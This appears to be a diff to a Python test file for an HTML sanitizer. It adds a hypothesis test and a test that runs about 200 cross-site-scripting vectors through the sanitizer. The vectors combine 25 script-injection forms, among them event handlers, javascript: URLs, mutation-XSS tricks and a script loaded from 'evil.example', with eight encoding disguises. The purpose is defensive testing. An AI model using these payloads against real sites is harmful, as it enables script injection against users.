@@ -1,6 +1,7 @@
 """What comes as HTML is kept as its words; what is text stays as it was."""
 
 import time
+from collections.abc import Callable
 
 import pytest
 from hypothesis import example, given
@@ -92,6 +93,7 @@ MARKS = [
 MARKUP = st.lists(st.sampled_from([*MARKS, " ", "\n", "\u00a0"]), max_size=40).map("".join)
 
 
+@pytest.mark.attack("A7")
 @given(st.one_of(MARKUP, st.text(max_size=80)))
 @example("<<b>script>alert(1)</script>")
 @example("&amp;lt;b&amp;gt;<p>")
@@ -138,3 +140,54 @@ def test_what_is_written_to_take_long_takes_no_time() -> None:
         assert not has_elements(clean("<p>" + text))
 
     assert time.process_time() - began < 4
+
+
+# A7: how scripts are brought in, each in several disguises.
+CALL = "alert(1)"
+ELEMENTS = (
+    "<script>{}</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<svg><animate onbegin={} attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
+    "<body onpageshow={}>",
+    "<iframe src='javascript:{}'></iframe>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    "<a href='javascript:{}'>x</a>",
+    "<a href='jav&#x09;ascript:{}'>x</a>",
+    "<a href='data:text/html,<script>{}</script>'>x</a>",
+    "<form action='javascript:{}'><input type=submit>",
+    "<object data='javascript:{}'></object>",
+    "<embed src='javascript:{}'>",
+    "<link rel=stylesheet href='javascript:{}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<style>@import 'javascript:{}';</style>",
+    "<div style='background:url(javascript:{})'>",
+    "<details open ontoggle={}>",
+    "<video><source onerror={}></video>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<template><script>{}</script></template>",
+    "<textarea><script>{}</script></textarea>",
+)
+DISGUISES: tuple[Callable[[str], str], ...] = (
+    lambda text: text,
+    str.upper,
+    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
+    lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
+    lambda text: text.replace(" ", "\t\n"),
+    lambda text: text.replace("<", "<\x00"),
+    lambda text: text.replace("<", "<<"),
+    lambda text: text.replace(">", ""),
+)
+VECTORS = [dress(each.format(CALL)) for each in ELEMENTS for dress in DISGUISES]
+
+
+@pytest.mark.attack("A7")
+def test_of_two_hundred_ways_to_bring_a_script_in_none_is_left() -> None:
+    assert len(set(VECTORS)) >= 190
+    for vector in VECTORS:
+        for text in (vector, f"words {vector} words", f'<p title="{vector}">words'):
+            assert not has_elements(clean(text)), vector
+            assert not has_elements(line(text)), vector
